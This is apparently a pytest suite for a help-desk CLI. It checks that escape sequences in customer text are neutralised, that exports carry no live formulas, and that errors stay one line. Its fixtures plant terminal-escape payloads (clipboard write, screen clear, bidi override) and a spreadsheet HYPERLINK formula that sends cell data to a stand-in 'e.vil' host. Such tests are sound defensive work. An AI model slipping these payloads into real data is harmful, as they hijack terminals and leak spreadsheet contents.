"""The CLI's output path and its faults: customer text never reaches the terminal as escape
sequences, exports hold no live formulas, and every expected fault is one line and exit 2."""

from __future__ import annotations

import contextlib
import os
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from deskui.cli import main
from deskui.domain.actors import Actor
from deskui.domain.enums import (
    Category,
    Channel,
    Priority,
    Role,
    Status,
    TeamKind,
    Tier,
)
from deskui.domain.repairs import RepairKind
from deskui.domain.schemas import IntakeForm
from deskui.services.accounts import add_agent, os_username
from deskui.services.context import ServiceContext
from deskui.services.products import add_product
from deskui.services.repairs import RepairService
from deskui.services.tickets import TicketService
from deskui.store.tables import Customer, Team, Ticket

# OSC 52 (write the clipboard), clear screen, BEL, backspace, CSI as one C1 byte, RLO.
PAYLOAD = "\x1b]52;c;aGk=\x07 \x1b[2J\x1b[H \x08\x08 \x9b31m \u202eevil\u202c"
FORBIDDEN = ("\x1b", "\x07", "\x08", "\x9b", "\u202e")
FORMULA = '=HYPERLINK("http://e.vil/?x="&A1,"click")'


@pytest.fixture
def hostile(ctx: ServiceContext, admin: Actor) -> tuple[ServiceContext, str]:
    """A site whose customer text is hostile: subject, description, name, address."""
    ctx.write(lambda s: s.add(Team(name="Field Engineers", kind=TeamKind.ENGINEERING)))
    engineer = add_agent(ctx, "li.lei", role=Role.AGENT, team="Field Engineers")
    if os_username() != "admin":
        add_agent(ctx, os_username(), role=Role.ADMIN, team="Customer Service")
    add_product(ctx, admin, model="AC-100", name="Air conditioner")
    form = IntakeForm(
        customer_name="王芳",
        customer_phone="13812345678",
        channel=Channel.PHONE,
        category=Category.REPAIR,
        priority=Priority.NORMAL,
        subject="空调不制冷",
        product_model="AC-100",
        serial="SN-1",
    )
    ticket = TicketService(ctx).intake(admin, form)
    RepairService(ctx).schedule(
        admin,
        ticket.id,
        kind=RepairKind.ON_SITE,
        engineer_id=engineer.id,
        appointment_at=datetime(2026, 11, 23, 6, 0, tzinfo=UTC),
    )

    def poison(session: object) -> None:
        session.execute(  # type: ignore[attr-defined]
            update(Ticket).values(subject=FORMULA + PAYLOAD, description=PAYLOAD)
        )
        session.execute(  # type: ignore[attr-defined]
            update(Customer).values(name="@SUM(1)" + PAYLOAD, address=PAYLOAD)
        )

    ctx.write(poison)
    return ctx, ticket.number


def run(argv: list[str], clock: object, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = main(argv, clock=clock)  # type: ignore[arg-type]
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def test_no_command_writes_escapes_from_data(
    hostile: tuple[ServiceContext, str],
    clock: object,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    ctx, number = hostile
    db = ["--db", ctx.settings.db_url]
    bad_file = tmp_path / f"in{PAYLOAD[:6]}.csv"
    bad_file.write_text(
        f"subject,created_at,channel,category,priority\n{PAYLOAD},2026-11-01 10:00,x,help,normal\n",
        encoding="utf-8",
    )
    commands = [
        ["report", "weekly", "--format", "md"],
        ["report", "monthly", "--format", "md"],
        ["report", "monthly", "--format", "html"],
        ["report", "monthly", "--format", "csv"],
        ["report", "agents"],
        ["sla", "explain", number],
        ["sla", "explain", PAYLOAD],
        ["visits", "--engineer", "li.lei", "--days", "30"],
        ["visits", "--days", "30"],
        ["audit"],
        ["export", "--format", "csv"],
        ["export", "--format", "json", "--unmasked"],
        ["import", str(bad_file)],
        ["import-products", str(bad_file)],
    ]
    shown = 0
    for argv in commands:
        code, text = run([*argv, *db], clock, capsys)
        assert code in (0, 1, 2), argv
        for ch in FORBIDDEN:
            assert ch not in text, (argv, ch)
        assert "Traceback" not in text, argv
        shown += "\\x1b" in text
    assert shown >= 6  # the data was shown, as visible escapes


def test_exported_xlsx_has_no_formula_cells(
    hostile: tuple[ServiceContext, str],
    clock: object,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    ctx, _ = hostile
    db = ["--db", ctx.settings.db_url]
    outputs = []
    for argv, name in [
        (["export", "--format", "xlsx", "--unmasked"], "tickets.xlsx"),
        (["report", "monthly"], "monthly.xlsx"),
        (["report", "weekly"], "weekly.xlsx"),
        (["report", "fees"], "fees.xlsx"),
    ]:
        target = tmp_path / name
        code, text = run([*argv, "--out", str(target), *db], clock, capsys)
        assert code == 0, text
        outputs.append(target)
    texts = []
    for target in outputs:
        book = load_workbook(target)  # not read-only: every cell's data type is known
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (target.name, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
    assert any(t.startswith(FORMULA) for t in texts)  # kept as the text typed, shown not run
    assert not any("\x1b" in t or "\x07" in t for t in texts)


def test_csv_export_neutralises_formulas_and_round_trips(
    ctx: ServiceContext, admin: Actor, tmp_path: Path
) -> None:
    from deskui.services.exchange import export_tickets, import_tickets

    typed = [FORMULA, "+86 138 0000 1111 call", "-5 degrees", "@mention", "'quoted", "plain"]
    rows = "".join(
        f'"{t.replace(chr(34), chr(34) * 2)}",2026-11-01 10:00,phone,help,normal\n' for t in typed
    )
    source = tmp_path / "typed.csv"
    source.write_text("subject,created_at,channel,category,priority\n" + rows, encoding="utf-8")
    assert import_tickets(ctx, admin, source).imported == len(typed)
    out = tmp_path / "out.csv"
    export_tickets(ctx, admin, "csv", out, unmasked=True)
    import csv

    exported = [r["subject"] for r in csv.DictReader(out.open(encoding="utf-8"))]
    assert all(not s.startswith(("=", "+", "-", "@")) for s in exported)
    assert exported[0] == "'" + FORMULA

    from deskui.config import Settings
    from deskui.store.engine import make_engine
    from deskui.store.migrate import upgrade

    engine = make_engine(f"sqlite:///{tmp_path / 'other.db'}")
    upgrade(engine)
    other = ServiceContext(engine, Settings(db_url=str(engine.url)), clock=ctx.clock)
    other_admin = add_agent(other, "admin", role=Role.ADMIN)
    assert import_tickets(other, other_admin, out).imported == len(typed)
    again = tmp_path / "again.csv"
    export_tickets(other, other_admin, "csv", again, unmasked=True)
    assert again.read_text(encoding="utf-8") == out.read_text(encoding="utf-8")
    with other.read() as session:
        from sqlalchemy import select

        assert session.execute(select(Ticket.subject).order_by(Ticket.id)).scalars().all() == typed

    # The same through XLSX: text cells hold exactly what was typed.
    book = tmp_path / "out.xlsx"
    export_tickets(ctx, admin, "xlsx", book, unmasked=True)
    engine3 = make_engine(f"sqlite:///{tmp_path / 'third.db'}")
    upgrade(engine3)
    third = ServiceContext(engine3, Settings(db_url=str(engine3.url)), clock=ctx.clock)
    assert import_tickets(third, add_agent(third, "admin", role=Role.ADMIN), book).imported == 6
    with third.read() as session:
        assert session.execute(select(Ticket.subject).order_by(Ticket.id)).scalars().all() == typed


def _fault(argv: list[str], clock: object, capsys: pytest.CaptureFixture[str]) -> str:
    code, text = run(argv, clock, capsys)
    lines = [line for line in text.splitlines() if line.strip()]
    assert code == 2, (argv, text)
    assert len(lines) == 1 and lines[0].startswith("deskui: "), (argv, text)
    return lines[0]


def test_faults_are_one_line(
    ctx: ServiceContext,
    admin: Actor,
    clock: object,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    db = ["--db", ctx.settings.db_url]
    if os_username() != "admin":
        add_agent(ctx, os_username(), role=Role.ADMIN, team="Customer Service")
    assert "check the path" in _fault(["export", "--out", "/nonexistent/x", *db], clock, capsys)
    assert "YYYY-MM" in _fault(["report", "monthly", "--month", "0000-01", *db], clock, capsys)
    assert "1 to 366" in _fault(["visits", "--days", "100000000", *db], clock, capsys)
    for years in ("100000", "-5"):
        assert "1 to 100" in _fault(["retention", "apply", "--years", years, *db], clock, capsys)
    assert "no ticket" in _fault(["sla", "explain", "SR-20991231-0001", *db], clock, capsys)

    typo = tmp_path / "typo" / "x.db"
    for argv in (["audit"], ["report", "weekly"], ["db", "status"], ["import", "x.csv"]):
        assert "no database at" in _fault([*argv, "--db", f"sqlite:///{typo}"], clock, capsys)
    assert not typo.parent.exists()  # a mistyped --db made nothing

    corrupt = tmp_path / "corrupt.db"
    corrupt.write_bytes(os.urandom(8192))
    assert "damaged" in _fault(["audit", "--db", f"sqlite:///{corrupt}"], clock, capsys)
    readonly = (
        f"sqlite:///file:{Path(ctx.settings.db_url.removeprefix('sqlite:///'))}?mode=ro&uri=true"
    )
    if ctx.engine.dialect.name == "sqlite":
        assert "read-only" in _fault(["agent", "add", "bob", "--db", readonly], clock, capsys)
    down = "postgresql+psycopg://nobody@127.0.0.1:9/none"
    assert "cannot connect" in _fault(["audit", "--db", down], clock, capsys)
    copy_line = _fault(["db", "copy", "--to", down, *db], clock, capsys)
    assert "cannot connect" in copy_line and "127.0.0.1:9" in copy_line  # names the target
    assert "--since" in _fault(["audit", "--since", "0001-01-01", *db], clock, capsys)
    assert "--tickets" in _fault(["demo", "--tickets", "-5", *db], clock, capsys)
    assert "not a deskui" not in _fault(["--db", "not a url", "audit"], clock, capsys)


def test_reveal_of_an_unknown_ticket_is_not_found(ctx: ServiceContext, admin: Actor) -> None:
    from deskui.services.errors import NotFound
    from deskui.services.privacy import reveal

    customer = ctx.write(lambda s: _customer(s))
    with pytest.raises(NotFound, match="no ticket with id 999"):
        reveal(ctx, admin, customer, "phone", ticket_id=999)


def _customer(session: object) -> int:
    customer = Customer(name="A", phone="13800001111", tier=Tier.NORMAL)
    session.add(customer)  # type: ignore[attr-defined]
    session.flush()  # type: ignore[attr-defined]
    return customer.id


def test_retention_asks_or_needs_yes(
    ctx: ServiceContext, admin: Actor, clock: object, capsys: pytest.CaptureFixture[str]
) -> None:
    from deskui.services.privacy import ANONYMISED

    customer = ctx.write(lambda s: _customer(s))
    old = datetime(2020, 1, 1, tzinfo=UTC)  # a ticket closed long ago, written directly
    ctx.write(lambda s: s.execute(Ticket.__table__.insert(), [_closed(customer, old)]))
    db = ["--db", ctx.settings.db_url]
    line = _fault(["retention", "apply", *db], clock, capsys)  # stdin is not a terminal
    assert "anonymise 1 customer" in line and "--yes" in line
    with ctx.read() as session:
        assert session.get(Customer, customer).name == "A"  # nothing changed
    code, text = run(["retention", "apply", "--yes", *db], clock, capsys)
    assert code == 0 and "anonymised 1 customer" in text
    with ctx.read() as session:
        assert session.get(Customer, customer).name == ANONYMISED


def _closed(customer_id: int, at: datetime) -> dict[str, object]:
    return {
        "number": "SR-20200101-0001",
        "channel": Channel.PHONE,
        "category": Category.HELP,
        "priority": Priority.NORMAL,
        "tier": Tier.NORMAL,
        "status": Status.CLOSED,
        "is_open": False,
        "subject": "old",
        "description": "",
        "customer_request": "",
        "customer_id": customer_id,
        "created_at": at,
        "updated_at": at,
        "resolved_at": at,
        "closed_at": at,
        "response_due_at": at,
        "response_warn_at": at,
        "resolve_due_at": at,
        "resolve_warn_at": at,
        "paused_seconds": 0,
        "extended_seconds": 0,
        "escalation_level": 0,
        "reopen_count": 0,
        "version": 1,
    }


def test_disk_full_import_is_one_line_and_writes_nothing(
    ctx: ServiceContext,
    admin: Actor,
    clock: object,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """SQLite's max_page_count makes the disk 'full' a few pages past the current size."""
    if ctx.engine.dialect.name != "sqlite":
        pytest.skip("a full disk is simulated with SQLite's max_page_count")
    if os_username() != "admin":
        add_agent(ctx, os_username(), role=Role.ADMIN, team="Customer Service")
    from deskui.store import engine as engine_module

    original = engine_module._sqlite_pragmas

    def full_soon(dbapi_connection: object, record: object) -> None:
        original(dbapi_connection, record)
        pages = dbapi_connection.execute("PRAGMA page_count").fetchone()[0]  # type: ignore[attr-defined]
        dbapi_connection.execute(f"PRAGMA max_page_count={pages + 2}")  # type: ignore[attr-defined]

    monkeypatch.setattr(engine_module, "_sqlite_pragmas", full_soon)
    rows = "".join(
        f"subject {n},2026-11-01 10:00,phone,help,normal,{'x' * 500}\n" for n in range(300)
    )
    source = tmp_path / "big.csv"
    source.write_text(
        "subject,created_at,channel,category,priority,description\n" + rows, encoding="utf-8"
    )
    line = _fault(["import", str(source), "--db", ctx.settings.db_url], clock, capsys)
    assert "full" in line and "nothing was written" in line
    monkeypatch.undo()
    from sqlalchemy import func, select

    with ctx.read() as session:
        assert session.execute(select(func.count()).select_from(Ticket)).scalar_one() == 0


def test_closed_pipe_is_quiet(
    ctx: ServiceContext, clock: object, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`deskui config show | head -3`: the reader went away; no traceback, no message, and
    the status a shell reports for SIGPIPE."""
    read_end, write_end = os.pipe()
    os.close(read_end)
    closed = open(write_end, "w", encoding="utf-8")  # noqa: SIM115  (closed below)
    errors: list[str] = []

    class Err:
        def write(self, text: str) -> int:
            errors.append(text)
            return len(text)

        def flush(self) -> None:
            pass

    monkeypatch.setattr(sys, "stdout", closed)
    monkeypatch.setattr(sys, "stderr", Err())
    code = main(["config", "show", "--db", ctx.settings.db_url], clock=clock)  # type: ignore[arg-type]
    monkeypatch.undo()
    with contextlib.suppress(BrokenPipeError):
        closed.close()
    assert code == 141 and errors == []


def test_db_copy_onto_a_database_with_data_asks_or_needs_yes(
    db_url: str, clock: object, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    from sqlalchemy import func, select

    from deskui.store.engine import make_engine

    source = f"sqlite:///{tmp_path / 'site.db'}"
    assert run(["--db", source, "demo", "--tickets", "40"], clock, capsys)[0] == 0
    assert run(["--db", source, "db", "copy", "--to", db_url], clock, capsys)[0] == 0

    def tickets(url: str) -> int:
        engine = make_engine(url)
        with engine.connect() as conn:
            count = conn.execute(select(func.count()).select_from(Ticket)).scalar_one()
        engine.dispose()
        return count

    assert tickets(db_url) == 40
    other = f"sqlite:///{tmp_path / 'other.db'}"
    assert run(["--db", other, "demo", "--tickets", "25"], clock, capsys)[0] == 0
    line = _fault(["--db", other, "db", "copy", "--to", db_url], clock, capsys)
    assert "delete the" in line and "tickets: 40" in line and "--yes" in line
    assert tickets(db_url) == 40  # nothing changed
    code, text = run(["--db", other, "db", "copy", "--to", db_url, "--yes"], clock, capsys)
    assert code == 0 and "tickets: 25 rows" in text
    assert tickets(db_url) == 25
    assert "being copied" in _fault(["--db", other, "db", "copy", "--to", other], clock, capsys)


@pytest.mark.parametrize(("answer", "code", "anonymised"), [("y", 0, True), ("n", 2, False)])
def test_retention_asks_on_a_terminal(
    tmp_path: Path, clock: object, answer: str, code: int, anonymised: bool
) -> None:
    """On a terminal the plan is shown and the answer decides (a real pty, a real process)."""
    import pty
    import select as poll
    import subprocess

    from deskui.config import Settings
    from deskui.services.privacy import ANONYMISED
    from deskui.store.engine import make_engine
    from deskui.store.migrate import upgrade

    url = f"sqlite:///{tmp_path / 'site.db'}"
    engine = make_engine(url)
    upgrade(engine)
    ctx = ServiceContext(engine, Settings(db_url=url), clock=clock)  # type: ignore[arg-type]
    add_agent(ctx, os_username(), role=Role.ADMIN, team="Customer Service")
    customer = ctx.write(lambda s: _customer(s))
    old = datetime(2020, 1, 1, tzinfo=UTC)
    ctx.write(lambda s: s.execute(Ticket.__table__.insert(), [_closed(customer, old)]))
    master, slave = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-m", "deskui", "--db", url, "retention", "apply"],
        stdin=slave,
        stdout=slave,
        stderr=slave,
        env={k: v for k, v in os.environ.items() if not k.startswith("DESKUI_")},
    )
    os.close(slave)
    seen = b""
    while b"[y/N]" not in seen:
        ready, _, _ = poll.select([master], [], [], 30)
        assert ready, seen
        seen += os.read(master, 4096)
    assert b"anonymise 1 customer" in seen
    os.write(master, f"{answer}\n".encode())
    assert proc.wait(timeout=60) == code
    os.close(master)
    with ctx.read() as session:
        assert (session.get(Customer, customer).name == ANONYMISED) is anonymised
